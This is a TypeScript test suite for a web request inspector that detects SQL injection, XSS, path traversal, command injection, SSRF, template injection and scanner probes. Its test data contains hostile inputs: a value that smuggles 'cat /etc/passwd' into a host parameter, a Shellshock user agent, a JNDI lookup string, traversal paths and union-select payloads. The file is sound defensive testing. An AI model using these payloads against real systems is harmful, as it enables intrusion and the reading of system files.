import { inspectRequest } from './inspect-request.js';
import type { InspectedField } from './inspected-values.js';
import { type Paranoia, THRESHOLD } from './rule.js';
import { RULE_SETS } from './rules/rule-sets.js';

const AGENT = 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0';

function inspect(path: string, fields: InspectedField[] = [], paranoia: Paranoia = 1) {
  return inspectRequest({ method: 'GET', path, fields, userAgent: AGENT }, paranoia);
}

function body(value: string, admits?: InspectedField['admits'], name = 'note'): InspectedField[] {
  return [{ in: 'body', name, value, ...(admits && { admits }) }];
}

describe('inspectRequest', () => {
  it.each([
    ['/students?id=1%27%20OR%20%271%27=%271', 'sql_injection', 'query.id'],
    ["/students/1'or'1'='1", 'sql_injection', 'path'],
    ['/students?q=%253Csvg/onload=alert(1)%253E', 'xss', 'query.q'],
    ['/files?name=..%2f..%2fetc%2fpasswd', 'path_traversal', 'query.name'],
    ['/ping?host=127.0.0.1;cat+/etc/passwd', 'command_injection', 'query.host'],
    ['/hook?url=http://0x7f.1/', 'ssrf', 'query.url'],
    ['/hello?name={{7*7}}', 'template_injection', 'query.name'],
    ['/students?user[$ne]=x', 'sql_injection', 'query.user[$ne]'],
    ['/.env', 'scanner_probe', 'path'],
    ['/students?id=5&id=5%20union%20select%20null', 'sql_injection', 'query.id'],
  ])('finds in %s %s in %s', (path, attackClass, field) => {
    const finding = inspect(path).find((one) => one.attackClass === attackClass);
    expect(finding?.score).toBeGreaterThanOrEqual(THRESHOLD);
    expect(finding?.rules.map((rule) => rule.field)).toContain(field);
  });

  it('names the rule, its weight and what it found, decoded', () => {
    expect(inspect('/students?id=x%20UNION%20SELECT%20null')).toEqual([
      {
        attackClass: 'sql_injection',
        score: 5,
        rules: [{ id: 'sql-union-select', weight: 5, field: 'query.id', fragment: 'union select null' }],
      },
    ]);
    const long = inspect('/', body(`<script ${'a'.repeat(500)} onload=x>${'<!--'.repeat(100)}`));
    for (const { fragment } of long.flatMap(({ rules }) => rules)) expect(fragment.length).toBeLessThanOrEqual(200);
  });

  it.each([
    ['an ordinary request', '/api/v1/students?page=2&sort=-name', []],
    ["O'Brien", "/teachers/O'Brien?q=O%27Brien", body("Siobhan O'Brien")],
    ['SQL words in prose', '/', body('select the best students and drop by the union office -- thanks')],
    ['a public address', '/', body('https://example.org/a?b=c&d=e')],
    ['JSON in a string', '/', body('{"name":"O\'Brien","filter":{"min":5}}')],
  ])('leaves %s', (_, path, fields) => {
    expect(inspect(path, fields)).toEqual([]);
  });

  it('skips what its DTO admits, and judges what does not fit by the next level too', () => {
    const quote = (admits?: InspectedField['admits']) => inspect('/', body("12'", admits));
    expect(quote()).toEqual([]);
    expect(quote('text')).toEqual([]);
    expect(quote('number')).toHaveLength(1);
    expect(quote('identifier')).toHaveLength(1);
    expect(inspect('/', body('12', 'number'), 4)).toEqual([]);
  });

  it('knows the field of a parameter by its decoded name, and lets brackets in names be', () => {
    const fields: InspectedField[] = [{ in: 'query', name: 'filter[form]', value: '3', admits: 'number' }];
    expect(inspect('/students?filter%5Bform%5D=3', fields, 4)).toEqual([]);
    expect(inspect("/students?filter%5Bform%5D=3&filter%5Bform%5D=3'", fields)).toHaveLength(1);
  });

  it('judges free text more mildly', () => {
    const lesson = 'I tried <script>alert("Hello")</script> but nothing happens';
    expect(inspect('/', body(lesson))).toHaveLength(1);
    expect(inspect('/', body(lesson, 'text'))).toEqual([]);
    expect(
      inspect(`/posts?text=${encodeURIComponent(lesson)}`, [
        { in: 'query', name: 'text', value: lesson, admits: 'text' },
      ]),
    ).toEqual([]);
    expect(inspect('/', body('\x24{jndi:ldap://x.example.org/a}', 'text'))).toHaveLength(1);
  });

  it('leaves out what is excepted', () => {
    const request = { method: 'GET', path: '/q?a=x%20union%20select%20null&b=x%20union%20select%20null' };
    const except = (field: string) =>
      inspectRequest(request, 1, (id, place) => id === 'sql-union-select' && place === field);
    expect(except('query.a')[0]!.rules.map((rule) => rule.field)).toEqual(['query.b']);
    expect(inspectRequest(request, 1, (id) => id === 'sql-union-select')).toEqual([]);
  });

  it('knows scanners by their names, and looks for attacks there too', () => {
    const classesOf = (userAgent: string) =>
      inspectRequest({ method: 'GET', path: '/', userAgent }, 1).map(({ attackClass }) => attackClass);
    expect(classesOf('sqlmap/1.7.2#stable (https://sqlmap.org)')).toEqual(['scanner_probe']);
    expect(classesOf('() { :;}; /bin/bash -c "id"')).toEqual(['command_injection']);
    expect(classesOf('Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)')).toEqual([]);
  });

  it('finds no less at a higher level', () => {
    const classes = ([1, 2, 3, 4] as const).map((level) => inspect('/', body("O'", undefined, 'name'), level).length);
    expect(classes).toEqual(classes.toSorted((a, b) => a - b));
    expect(classes.at(-1)).toBeGreaterThan(0);
  });

  it('reads so much and no more', () => {
    const attack = "' or 1=1--";
    expect(inspect('/', body(' '.repeat(8192) + attack))).toEqual([]);
    const many = Array.from({ length: 70 }, (_, index) => body(index < 65 ? 'x' : attack, undefined, `f${index}`)[0]!);
    expect(inspect('/', many)).toEqual([]);
  });

  const parts = [
    "'",
    "' ",
    '"',
    "')",
    ' ',
    '\n',
    '\t ',
    '(',
    ')',
    '((',
    '<',
    '<a ',
    '<a on',
    '<!',
    '/',
    '//',
    '../',
    './',
    '\\',
    '..',
    '-',
    '--',
    '- ',
    '/*',
    '/**/',
    '*/',
    '#',
    ';',
    '; ',
    '|',
    '||',
    '&',
    '&#',
    '&lt;',
    '%',
    '%25',
    '%c0',
    '%u0027',
    '\\u',
    '\\u0027',
    '$',
    '${',
    '{{',
    '{',
    '}',
    '[',
    '[]',
    '![]',
    '+',
    '=',
    ',',
    '.',
    ':',
    '`',
    '$(',
    '<(',
    '@',
    '*',
    '~{',
    '__',
    'a',
    'a.',
    'a=',
    '1',
    '1,',
    '0x',
    'e',
    'select ',
    'union ',
    'select(',
    'or ',
    'or 1',
    'and a',
    'if(',
    'case when ',
    'from ',
    '\nid',
    ';cat ',
    'cat /',
    'cat a ',
    'curl a',
    'script',
    'java',
    'on',
    'onload',
    'data:',
    'http://',
    'http:/',
    'file:',
    'a://',
    '::ffff:',
    '127.',
    'document',
    'alert',
    'eval(',
    '?new',
    '#set(',
    '${${',
    '() {',
    'powershell ',
    'bin/',
    '/?',
    'rm -',
    "c'",
  ];
  it.each(parts)('takes no time for a long text of %j', (part) => {
    const texts = [part, `'${part}`, `x ${part}`].map((text) => text.repeat(Math.ceil(65_536 / text.length)));
    for (const text of texts) {
      const startedAt = performance.now();
      inspect(`/${text}`, [], 4);
      for (const admits of [undefined, 'text', 'identifier'] as const) inspect('/', body(text, admits), 3);
      expect(performance.now() - startedAt).toBeLessThan(2000);
    }
  });
});

describe('the rules', () => {
  const rules = RULE_SETS.flatMap((set) => set.rules.map((rule) => ({ attackClass: set.attackClass, ...rule })));

  it('have names of their own, in small letters only, and keep no state', () => {
    expect(new Set(rules.map(({ id }) => id)).size).toBe(rules.length);
    for (const { id, test } of rules) {
      if (typeof test === 'function') continue;
      expect([id, test.flags.replace('i', '')]).toEqual([id, '']);
    }
  });

  it('have for each class some of every level', () => {
    for (const name of new Set(rules.map(({ attackClass }) => attackClass))) {
      const levels = new Set(rules.filter((rule) => rule.attackClass === name).map(({ paranoia }) => paranoia));
      expect([name, [...levels].sort((a, b) => a - b)]).toEqual([name, [1, 2, 3, 4]]);
    }
  });
});
